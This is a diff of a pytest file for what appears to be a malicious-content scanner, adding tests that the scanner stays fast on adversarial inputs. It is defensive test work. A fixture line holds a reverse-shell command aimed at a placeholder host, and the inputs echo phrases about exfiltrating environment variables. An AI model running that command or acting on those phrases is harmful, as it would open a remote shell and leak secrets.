@@ -9,7 +9,7 @@ import pytest
 from skillhub.model.tree import File, Tree
 from skillhub.scan import scan, views
 from skillhub.scan.views import WINDOW
-from tests.support.effort import is_linear
+from tests.support.effort import at_most, is_linear
 
 SHELL = b"\nbash -i >& /dev/tcp/x.invalid/1 0>&1\n"
 SMALL = 1 << 16
@@ -304,6 +304,27 @@ def test_honest_text_of_many_scripts_has_no_finding(text):
 def test_attack_scan_of_invisible_characters_takes_linear_time(unit):
     raw = unit.encode("latin-1" if unit == "\xff\0" else "utf-8")
     assert is_linear(lambda size: scan(Tree({"a.sh": File(raw * (size // len(unit)))})), 6_000)
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "http://a.b/clone,",
+        "retrieve,/http:///-chmod,",
+        "bcc+@a..-a---...--....-baaaaba-a---ax send each ",
+        "e-mail.ax.xx.xx to a@b.c ",
+        "copies this file.x.xxx.b.x to each repository ",
+        "contents of environment variables.b.b push public ",
+    ],
+)
+def test_attack_prose_on_which_phrases_are_tried_again_and_again_takes_seconds(unit):
+    with at_most(6):
+        scan(Tree({"a.md": File((unit * (60_000 // len(unit))).encode())}))
+
+
+@pytest.mark.parametrize("unit", [b"bashrc`", b'these"', b"gooserules*"])
+def test_attack_scan_of_one_long_word_takes_linear_time(unit):
+    assert is_linear(lambda size: scan(Tree({"Makefile": File(unit * (size // len(unit)))})), 25_000)
 
 
 @pytest.mark.parametrize("blank", ["\u00a0", "\u2003", "\u202f", "\u3000", "\u2028", "\u00a0" * 300])
